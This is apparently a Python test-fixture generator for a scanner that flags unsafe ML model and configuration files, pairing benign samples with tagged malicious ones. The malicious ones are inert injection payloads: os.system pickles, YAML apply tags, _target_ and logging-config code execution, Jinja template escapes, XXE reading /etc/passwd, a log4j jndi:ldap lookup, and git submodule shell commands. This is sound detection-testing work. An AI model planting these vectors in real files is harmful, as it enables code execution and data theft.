"""What servers, libraries and tools are told to call, render or run: harmless() yields (name, bytes), evil() (name, bytes, least level)."""
import base64
import collections
import json
import pickle
import struct

MIB = 1 << 20
REACHES = "{{ ''.__class__.__mro__ }}"


def gguf(*pairs):
    """A file without tensors: each value is a text, or a list of texts."""
    def string(value):
        return struct.pack("<Q", len(value.encode())) + value.encode()
    out = b"GGUF" + struct.pack("<IQQ", 3, 0, len(pairs))
    for key, value in pairs:
        out += string(key)
        if isinstance(value, str):
            out += struct.pack("<I", 8) + string(value)
        else:
            out += struct.pack("<IIQ", 9, 8, len(value)) + b"".join(map(string, value))
    return out + bytes(-len(out) % 32)


def serialized(code):
    """As Stable-Baselines3 keeps what is no JSON."""
    return {":type:": "<class 'x'>", ":serialized:": base64.b64encode(code).decode()}


# A space of gymnasium, and a class by its name.
SPACE = b"\x80\x04\x8c\x14gymnasium.spaces.box\x8c\x03Box\x93)\x81}(\x8c\x06_shapeK\x03\x85ub."
POLICY = b"\x80\x04\x8c!stable_baselines3.common.policies\x8c\x11ActorCriticPolicy\x93."
RUNS = b"\x80\x02cos\nsystem\nX\x04\0\0\0true\x85R."


def callees_harmless():
    yield "baselines/data", {"policy_class": serialized(POLICY), "observation_space": serialized(SPACE), "ep_info_buffer": serialized(pickle.dumps(collections.deque([1], 100)))}
    yield "rows.json", [{"text": "a call", "target": "os.system", "fn": "os.system"}, {"text": "b", "target": "acme.evil"}]
    yield "large/rows.json", [{"text": "x" * 90, "target": f"os.system {i}.", "func": "os.system"} for i in range(60_000)]
    for number, word in enumerate(("test.json", "cmd.exe", "code.org", "site.css", "trace.json", "queue.size", "io.weights")):
        yield f"words/{number}.json", {"a": {"target": word}, "b": {"cls": word, "args": []}}
    yield "ray/params.json", {"x": {"_type": "CLOUDPICKLE_FALLBACK", "value": pickle.dumps(collections.deque([1])).hex()}, "y": {"_type": "uniform", "value": 80}}
    yield "ray-large/values.json", [{"value": "80.5"}, {"_type": "a", "value": "80"}] * 200_000
    yield "logging.json", {"version": 1, "formatters": {"a": {"()": "logging.Formatter"}}, "handlers": {"b": {"class": "logging.StreamHandler", "args": []}}}
    yield "nni/trial.json", {"lr": {"__nni_type__": "bytes:" + base64.b64encode(pickle.dumps({1: 2})).decode()}}
    yield "calls.json", {"name": "os.path.join", "parameters": {"a": 1}, "args": ["x"], "function": "math.sqrt"}
    yield "mlserver/model-settings.json", {"name": "m", "implementation": "mlserver_sklearn.SKLearnModel"}
    yield "haystack/pipeline.json", {"components": {"llm": {"type": "haystack.components.generators.openai.OpenAIGenerator", "init_parameters": {"model": "m"}}}}
    yield "ldm/config.json", {"model": {"target": "ldm.models.autoencoder.AutoencoderKL", "params": {"lossconfig": {"target": "torch.nn.Identity"}}}}
    yield "hydra/config.json", {"act": {"_target_": "hydra.utils.get_class", "path": "torch.nn.ReLU"}, "path": "test.json"}
    yield "off/config.json", {"trust_remote_code": "false", "custom_pipelines": {}, "auto_map": {}, "custom_generate": None}
    yield "bundle/configs/inference.json", {
        "imports": ["$import glob", "$import os"], "bundle_root": ".", "device": "$torch.device('cuda:0' if torch.cuda.is_available() else 'cpu')",
        "datalist": "$list(sorted(glob.glob(@dataset_dir + '/imagesTs/*.nii.gz')))", "output": "$os.path.join(@bundle_root, 'eval')",
        "network": {"_target_": "UNet", "channels": [16, 32]}, "run": ["$@evaluator.run()"], "price": "$5", "shell": "$HOME/x"}
    yield "money.json", {"a": "$(5)", "b": ["$x.y()", "$ __"], "c": "$eval(1)"}
    yield "servable/MAR-INF/MANIFEST.json", {"model": {"modelName": "m", "serializedFile": "m.pt", "handler": "image_classifier", "modelFile": ""}}
    yield "foundry/genai_config.json", {"model": {"decoder": {"filename": "model.onnx", "session_options": {"provider_options": []}}}}


def callees_evil():
    call = {"target": "os.system", "params": {"command": "true"}}
    for label, value, least in (
        ("target", {"a": call}, "critical"),
        ("target-alone", {"target": "os.system"}, "critical"),
        ("target-own", {"target": "acme.Net", "params": {}}, "medium"),
        ("cls", {"cls": "subprocess.Popen", "kwargs": {}}, "critical"),
        ("underscores", {"__target__": "os.system"}, "critical"),
        ("haystack", {"components": {"a": {"type": "subprocess.Popen", "init_parameters": {"args": "true"}}}}, "critical"),
        ("haystack-own", {"components": {"a": {"type": "acme.Thing", "init_parameters": {}}}}, "medium"),
        ("console", {"target": "code.interact"}, "critical"),
        ("opened", {"cls": "io.open", "args": ["x"]}, "critical"),
        ("fn", {"fn": "os.system", "args": ["true"]}, "medium"),
        ("attribute", {"f": {"_target_": "hydra.utils.get_method", "path": "os.system"}}, "critical"),
        ("generate", {"custom_generate": "acme/decoder"}, "medium"),
        ("pipeline", {"_class_name": "DiffusionPipeline", "custom_pipeline": "acme/pipeline"}, "medium"),
        ("remote-text", {"trust_remote_code": "true"}, "medium"),
        ("remote-number", {"trust_remote_code": 1}, "medium"),
        ("adapter", {"auto_mapping": {"base_model_class": "system", "parent_library": "transformers.utils.os"}}, "medium"),
        ("imports", {"custom_imports": {"imports": ["acme"], "allow_failed_imports": False}}, "medium"),
        ("operators", {"model": {"decoder": {"session_options": {"custom_ops_library": "x.so"}}}}, "medium"),
        ("bundle", {"imports": ["$import os"], "run": ["$os.system('true')"]}, "critical"),
        ("bundle-own", {"network": {"_target_": "Net"}, "x": ["$__import__('os').system('true')"]}, "critical"),
        ("bundle-quiet", {"bundle_root": ".", "x": "$acme.call(1)"}, "medium"),
        ("tool", {"name": "t", "tool_class": "tool.Tool"}, "medium"),
        ("user-dir", {"common": {"user_dir": "acme"}}, "medium"),
        ("ray", {"a": [{"_type": "CLOUDPICKLE_FALLBACK", "value": RUNS.hex()}]}, "critical"),
        ("ray-broken", {"a": {"_type": "CLOUDPICKLE_FALLBACK", "value": 5}}, "inconclusive"),
        ("nni-bytes", {"__nni_type__": "bytes:" + base64.b64encode(RUNS).decode()}, "critical"),
        ("nni-path", {"__symbol__": "path:os.system", "__args__": ["true"]}, "critical"),
        ("factory", {"handlers": {"a": {"()": "subprocess.Popen", "args": "true"}}}, "critical"),
        ("parts", {"_class_name": "APipeline", "unet": ["diffusers", "X.os.system"]}, "medium"),
    ):
        yield f"{label}/config.json", json.dumps(value).encode(), least
        if label not in ("haystack-own", "parts", "bundle-quiet"):
            spelt = json.dumps({**value, "pad": "x" * 4 * MIB}) if label not in ("target-alone", "console") else json.dumps([value, "x" * 4 * MIB])
            yield f"{label}-large/weights.json", spelt.encode(), least
    yield "model-settings.json", b'{"name": "m", "implementation": "os.system"}', "critical"
    yield "baselines/data", json.dumps({"policy_class": serialized(RUNS)}).encode(), "critical"
    yield "baselines-large/data", json.dumps({"pad": "x" * 4 * MIB, "policy_class": serialized(RUNS)}).encode(), "critical"
    yield "baselines-broken/data", json.dumps({"policy_class": {":serialized:": "gAJj b3M"}}).encode(), "inconclusive"
    yield "own/model-settings.json", b'{"name": "m", "implementation": "acme.Runtime"}', "medium"
    yield "MAR-INF/MANIFEST.json", json.dumps({"model": {"handler": "image_classifier", "serializedFile": "../../x"}}).encode(), "high"
    yield "MANIFEST.json", json.dumps({"Engine": "MXNet", "Model": {"Service": "service.py"}}).encode(), "medium"
    for label, text, least in (
        ("imports", "custom_imports: {imports: [acme], allow_failed_imports: false}\n", "medium"),
        ("attribute", "f: {path: os.system, _target_: hydra.utils.get_method}\n", "critical"),
        ("factory", "handlers: {a: {(): subprocess.Popen, args: x}}\n", "critical"),
        ("user-dir", "common: {user_dir: acme}\n", "medium"),
        ("bundle", "network: {_target_: UNet}\nrun: [\"$__import__('os').system('true')\"]\n", "critical"),
    ):
        yield f"yaml-{label}/config.yaml", text.encode(), least
    yield "MLmodel", b"flavors:\n  langchain:\n    model_code_path: agent.py\n", "medium"
    yield "bento.yaml", b"service: service:svc\nname: x\n", "medium"
    yield "config.pbtxt", b'backend: "python"\nparameters: {key: "EXECUTION_ENV_PATH", value: {string_value: "/x.tar.gz"}}\n', "medium"


def templates_harmless():
    yield "vue.json", {"template": "<div>{{ item.name }}</div>", "x": "{{ y }}"}
    yield "handlebars.json", {"prompt_template": "{{#if system}}{{system}}{{/if}}"}
    yield "format.json", {"template": 'Answer in JSON: {{"a": {x}}}', "prompt": "{{{{"}
    yield "rows/prompts-of-code.json", [{"prompt": "x", "answer": "{{ x.__class__ }}"}]
    yield "plain/config.json", {"prompts": {"query": "query: "}, "system_prompt": "Write {{ name }}."}


def templates_evil():
    for name, key in (("processor_config.json", "chat_template"), ("chat_template.json", "default"), ("x.json", "template"), ("tokenizer_config.json", "jinja_template"),
                      ("x.json", "instruction_template"), ("config.json", "system_prompt"), ("generation_config.json", "prompt"), ("mlc-chat-config.json", "conv_template"),
                      ("prompts.json", "prompt"), ("config.json", "chatTemplate")):
        yield f"{key}/{name}", json.dumps({"a": [{key: REACHES}]}).encode(), "high"
    yield "text/chat_template.json", json.dumps(REACHES).encode(), "high"
    yield "list/chat_template.json", json.dumps([REACHES]).encode(), "high"
    kind = ("general.architecture", "llama")
    for label, pair in (("list", ("tokenizer.chat_template", ["a", REACHES])), ("other", ("acme.prompt_template", REACHES)),
                        ("tokenizer", ("tokenizer.huggingface.json", json.dumps({"chat_template": REACHES})))):
        yield f"{label}/model.gguf", gguf(kind, pair), "high"


def tools_harmless():
    yield "clone/.gitmodules", b'[submodule "x"]\n\tpath = x\n\turl = https://example.org/x\n'
    yield "editor/.vscode/tasks.json", b'{"version": "2.0.0", "tasks": [{"label": "x", "type": "shell"}]} // a remark'
    yield "editor/.vscode/settings.json", b'{"editor.tabSize": 4}'
    yield "tasks.json", b'{"tasks": [{"runOn": "folderOpen"}]}'
    yield "encoded/notes.txt", "a: text\n".encode("utf-16")
    yield "encoded/README.md", "Write !!python/object here.\n".encode("utf-16")
    yield "python/config.json", b"{}"
    for name in ("__init__", "io", "types", "logging", "sub/__init__", "sub/json"):
        yield f"python/acme/{name}.py", b"X = 1\n"
    yield "pip/requirements.txt", b"--pre\n--no-binary :all:\ntorch==2.1 --hash=sha256:00\nacme[all]>=1; python_version<'3.9'\n# mail@example.org: me\n"
    yield "poetry/pyproject.toml", b'[tool.poetry]\nauthors = ["A <a@example.org>"]\n'
    yield "words.yaml", b"data: [{name: test.json}, {name: cmd.exe, params: {}}, {type: code.org}, {target: site.css}]\n"


def tools_evil():
    yield "sitecustomize/__init__.py", b"X = 1\n", "high"
    for module in ("yaml", "string", "flask", "urllib"):
        yield f"code/{module}.py", b"X = 1\n", "high"
    yield "code/PIL/__init__.py", b"X = 1\n", "high"
    yield "code/__init__.py", b"X = 1\n", "medium"
    for name in (".bashrc", ".profile", ".envrc", "run.ipy", "run.fish", "run.hta"):
        yield name, b"true\n", "medium"
    for label, line in (("url", "\turl = ext::sh -c true"), ("update", "\tupdate = !true")):
        yield f"{label}/.gitmodules", f'[submodule "x"]\n\tpath = x\n{line}\n'.encode(), "medium"
    task = {"version": "2.0.0", "tasks": [{"label": "x", "type": "shell", "command": "true", "runOptions": {"runOn": "folderOpen"}}]}
    yield ".vscode/tasks.json", json.dumps(task).encode(), "medium"
    yield ".devcontainer/devcontainer.json", b'{"image": "x", "postCreateCommand": "true"}', "medium"
    yield ".vscode/launch.json", b'{"configurations": [{"program": "x.py"}]}', "low"
    yield "pip.conf", b"[global]\nindex-url = http://example.org/\n", "medium"
    yield "uv.toml", b'[[index]]\nurl = "http://example.org"\n', "medium"
    for line in ("./wheels/acme.whl", "wheels/acme.whl", "acme.tar.gz ; python_version>'3'", ".", "--index-u http:/x", "--ed x", "-ex", "acme@file:/x", "acme @hg+ssh:/x",
                 "-f wheels", "/opt/acme"):
        yield "requirements.txt", f"numpy\n{line}\n".encode(), "medium"
    for name, words in (("requirements.txt", "git+https://example.org/x"), ("a.txt", "a: !!python/object/apply:os.system [true]")):
        yield f"encoded/{name}", words.encode("utf-16"), "inconclusive"
    yield "latin/a.txt", "# \xe9\n_target_: os.system\n".encode("latin-1"), "inconclusive"
    yield "x.gin", b"import acme\n", "low"
    yield "requirements/base.txt", b"git+https://example.org/x\n", "medium"
    for name in ("gpu-constraints.txt", "dev-r.txt"):  # what -c and -r take without a word
        yield name, b"git+https://example.org/x\n", "medium"


LOGGING = """[loggers]
keys=root
[handlers]
keys=a,b
[formatters]
keys=c
[handler_a]
class=StreamHandler
args=(sys.stdout,)
[handler_b]
  class = logging.handlers.SysLogHandler
  level = INFO
  args = (('localhost', handlers.SYSLOG_UDP_PORT), handlers.SysLogHandler.LOG_USER)
  kwargs = {'x': 1, 'name': os.path.join('%(here)s', "a.log")}
[formatter_c]
format=%(asctime)s %(message)s
class=logging.Formatter
"""


def server_harmless():
    yield "logging.conf", LOGGING.encode()
    yield "alembic.ini", LOGGING.replace("=", " = ").encode()
    yield "hydra.toml", b'a = "_target_"\n[model]\n_target_ = "torch.nn.Linear"\n'
    yield "litellm.yaml", (b"model_list:\n- litellm_params: {model: a/b, api_key: os.environ/KEY}\n"
                           b"litellm_settings:\n  callbacks: [langfuse, prometheus]\n  success_callback: [s3]\n")
    yield "vllm.yaml", b"model: a/b\ntrust-remote-code: false\nworker-cls: auto\nport: 8000\n"
    yield "axolotl.yml", b"base_model: a/b\nplugins: [axolotl.integrations.liger.LigerPlugin]\n"
    yield "genai_config.json", b'{"model": {"decoder": {"session_options": {"provider_options": [{"qnn": {"backend_path": "QnnHtp.dll"}}]}}}}'
    yield "adapter_config.json", b'{"peft_type": "LORA", "megatron_config": null, "megatron_core": "megatron.core"}'
    yield "uvicorn.yaml", b"version: 1\nformatters: {a: {(): uvicorn.logging.DefaultFormatter, use_colors: null}}\n"
    yield "registry.json", b'{"callbacks": ["spacy.copy_from_base_model.v1"]}'
    yield "tests/pyproject.toml", b'[tool.pytest.ini_options]\naddopts = """\n--cov-report term-missing --cov src\n-ra"""\n'
    yield "card/notes.txt", b"AKIAIOSFODNN7EXAMPLE\n"
    yield "long/notes.txt", b"a word and another one\n" * 100_000
    yield "requirements.txt", b"-r requirements/base.txt\n-c constraints.txt\ntorch==2.1 \\\n  --hash=sha256:00\n"
    yield "unit/README.md", b"[Service]\nExecStart=/usr/bin/serve\n"


def server_evil():
    for label, line in (("args", "args=(__import__('os').system('true'),)"), ("kwargs", "kwargs={'x': print()}"), ("class", "class=print()"),
                        ("colon", "args : (open('x'),)"), ("lines", "args=(\n  print(),)"), ("percent", "args=(%(x)s,)"), ("quoted", "args=('%(x)s',)"),
                        ("case", "ARGS=(print(),)"), ("index", "args=('a'.join([print()]),)"), ("behind", "args=(sys.stdout)(1)"), ("dunder", "args=(__builtins__,)")):
        yield f"{label}/logging.conf", f"[handler_a]\nlevel=INFO\n{line}\n".encode(), "high"
    yield "own/logging.ini", b"[handler_a]\nclass=acme.Handler\n", "medium"
    yield "starts/logging.ini", b"[formatter_a]\nclass=subprocess.Popen\n", "critical"
    yield "default/logging.ini", b"[DEFAULT]\nargs=(print(),)\n[handler_a]\nclass=StreamHandler\n", "high"
    yield "runtime/config.yaml", b"runtime_env: {working_dir: 'https://example.org/x.zip'}\n", "medium"
    for name in ("logging.yaml", "logging.properties", "logging.json"):
        yield f"named/{name}", b"[handler_a]\nclass=StreamHandler\nargs=(print(),)\n", "high"
    yield "mark/logging.ini", b"\xef\xbb\xbf[handler_a]\nargs=(print(),)\n", "high"
    yield "sections/logging.ini", b"[formatters]\nkeys=a\n[handler_a]\nargs=(print(),)\n", "high"
    yield "flow/a.txt", b"[f: !!python/object/apply:os.system ['true']]\n", "critical"
    yield "large/a.txt", b"[f: '" + b"x" * 5 * MIB + b"', a: !!python/object/apply:os.system ['true']]\n", "critical"
    yield "setup/setup.cfg", b"[metadata]\nname=x\n[handler_a]\nargs=(print(),)\n", "high"
    for label, line in (("bare", '_target_ = "os.system"'), ("quoted", '"_target_" = \'os.system\''), ("inline", 'a = { _target_ = "os.system", x = 1 }'),
                        ("table", '[a]\n  _target_="os.system"')):
        yield f"{label}/config.toml", line.encode(), "critical"
    yield "lines/config.toml", b'_target_ = """\nos.system"""\n', "medium"
    for key in ("class", "callable", "function", "_call_"):
        yield f"{key}/conf.yaml", f"a:\n  {key}: os.system\n".encode(), "medium"
    yield "escaped/config.toml", b'"\\u005ftarget_" = "os.system"\n', "medium"
    yield "pyproject.toml", b'[tool.x]\n_target_ = "os.system"\n', "critical"
    for label, line in (("ray", "applications: [{name: a, import_path: 'fruit:app'}]"), ("litellm", "litellm_settings: {callbacks: hooks.proxy_handler}"),
                        ("auth", "general_settings: {custom_auth: hooks.auth}"), ("list", "litellm_settings:\n  callbacks: [hooks.handler]"),
                        ("vllm", "tool-parser-plugin: /x/parser.py"), ("processors", "logits-processors: ['hooks:Processor']"), ("worker", "worker_cls: hooks.Worker"),
                        ("trust", "trust-remote-code: true"), ("trust-option", "args: [serve, --trust-remote-code]"), ("preload", "env: {LD_PRELOAD: ./x.so}"),
                        ("build", "build_commands: ['true']"), ("trainer", "plugins: [acme.plugin.Plugin]")):
        yield f"{label}/config.yaml", line.encode(), "medium"
        if label in ("ray", "litellm", "auth", "worker", "preload"):
            value = {"ray": {"import_path": "fruit:app"}, "litellm": {"callbacks": ["hooks.handler"]}, "auth": {"custom_auth": "hooks.auth"},
                     "worker": {"worker-cls": "hooks.Worker"}, "preload": {"env": {"LD_PRELOAD": "x.so"}}}[label]
            yield f"{label}/settings.json", json.dumps(value).encode(), "medium"
            yield f"{label}-large/values.json", json.dumps({**value, "pad": "x" * 5 * MIB}).encode(), "medium"
    yield "ray-bad/serve.yaml", b"import_path: os:system\n", "critical"
    yield "megatron/adapter_config.json", b'{"megatron_config": {}, "megatron_core": "acme"}', "medium"
    yield "langgraph.json", b'{"graphs": {"agent": "./agent.py:graph"}}', "medium"
    yield "mcp.json", b'{"mcpServers": {"a": {"command": "npx", "args": ["x"]}}}', "medium"
    for name, words in (("a.service", "[Service]\nExecStart=/x"), ("a.desktop", "[Desktop Entry]\nExec=x"), ("autorun.inf", "[autorun]\nopen=x.exe"),
                        (".env", "LD_PRELOAD=./x.so"), ("supervisord.conf", "[program:a]\ncommand=x")):
        yield name, words.encode(), "medium"
    for line in ("-r list.bin", "--requirement=../x.txt", "-c x", "-\\\nr x.bin", "--index-\\\nurl http://x"):
        yield "requirements.txt", f"numpy\n{line}\n".encode(), "medium"
    token = b"hf_" + b"aB3" * 12
    for label, at in (("end", 3 * MIB), ("seam", MIB - 10), ("start", 1 << 10)):
        yield f"{label}/notes.txt", (b"word " * (4 * MIB // 5))[:at] + b" " + token + b"\n" + b"word " * 1000, "medium"
    yield "large/values.json", json.dumps({"a": ["x"] * 1_500_000, "note": token.decode()}).encode(), "medium"
    yield "key/notes.txt", b"word\n" * 500_000 + b"-----BEGIN PRIVATE KEY-----\n", "medium"


ENTITIES = "<?xml version='1.0'?>\n<!DOCTYPE net [{}]>\n<net name='a'>&x;</net>\n"


def reaches_harmless():
    yield "drawing.svg", (b'<?xml version="1.0"?>\n<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd"'
                          b' [<!ENTITY ns "http://example.org/SYSTEM/">]>\n<svg xmlns="&ns;"/>\n')
    yield "model.xml", b"<?xml version='1.0'?>\n<net name='a'><layers/></net>\n"
    yield "x.dist-info/entry_points.txt", b"[console_scripts]\na = acme:main\n"
    yield "python/latin.py", b"# -*- coding: latin-1 -*-\n# \xe9\nX = 1\n".replace(b"\xe9", b"e")
    yield "python/greek.py", "# vim: set fileencoding=utf-8 :\nα = 1\nname = 'ＡＢＣ'\n".encode()
    yield "paths.pth", b"src\n./lib\n# /remark\n"
    yield "page.url", b"[InternetShortcut]\nURL=https://example.org/\n"
    yield "model.msgpack", b"\x81\xa1a\xc4\x04\x80\x02\x00\x01"


def reaches_evil():
    yield "entity/openvino.xml", ENTITIES.format("<!ENTITY x SYSTEM 'file:///etc/passwd'>").encode(), "high"
    yield "public/a.pmml", ENTITIES.format("<!ENTITY x PUBLIC 'a' 'http://example.org/'>").encode(), "high"
    yield "parameter/a.xml", ENTITIES.format("<!ENTITY % x SYSTEM 'http://example.org/'>").encode(), "high"
    many = "".join(f"<!ENTITY a{i + 1} '&a{i};&a{i};'>" for i in range(9))
    yield "many/a.xml", ENTITIES.format("<!ENTITY a0 'x'>" + many).encode(), "medium"
    yield "include/a.xml", b"<?xml version='1.0'?><a xmlns:xi='x'><xi:include href='file:///x'/></a>", "medium"
    yield "lookup/log4j2.xml", b"<?xml version='1.0'?><Configuration><a pattern='${jndi:ldap://example.org/}'/></Configuration>", "medium"
    yield "x.dist-info/entry_points.txt", b"[torch.backends]\na = acme:run\n", "high"
    yield "y.egg-info/entry_points.txt", b"[console_scripts]\na = acme:main\n[vllm.general_plugins]\na = acme:run\n", "medium"
    yield "x.start", b"acme.module:run\n", "high"
    yield "paths.pth", b"/opt/acme\n", "medium"
    yield "a.reg", b"Windows Registry Editor Version 5.00\n", "medium"
    yield "a.url", b"[InternetShortcut]\nURL=file://example.org/x\n", "medium"
    yield "desktop.ini", b"[.ShellClassInfo]\nIconResource=\\\\example.org\\x\n", "medium"
    yield "utf7.py", b"# -*- coding: utf-7 -*-\n+AGk-mport acme\n", "high"
    yield "wide.py", "ｅxec('1')\n".encode(), "high"
    yield "letters.py", "𝐞𝐱𝐞𝐜('1')\n".encode(), "high"
    yield "from.py", b"from os import system as s\ns('true')\n", "high"
    yield "model.msgpack", b"\x81\xa1a\xc4" + bytes([len(RUNS)]) + RUNS, "critical"
    code = b"\x80\x02cnumpy.ma.core\n_mareconstruct\n(cfunctools\npartial\ncnumpy\nndarray\nK\x01\x85X\x01\0\0\0btR."
    yield "masked.pkl", code, "high"


def harmless():
    for name, data in reaches_harmless():
        yield f"reaches/{name}", data
    for name, data in server_harmless():
        yield f"servers/{name}", data
    for part in (callees_harmless, templates_harmless):
        for name, value in part():
            yield f"settings/{name}", json.dumps(value).encode()
    for name, data in tools_harmless():
        yield f"settings/{name}", data


def evil():
    yield from callees_evil()
    yield from templates_evil()
    yield from tools_evil()
    yield from server_evil()
    yield from reaches_evil()
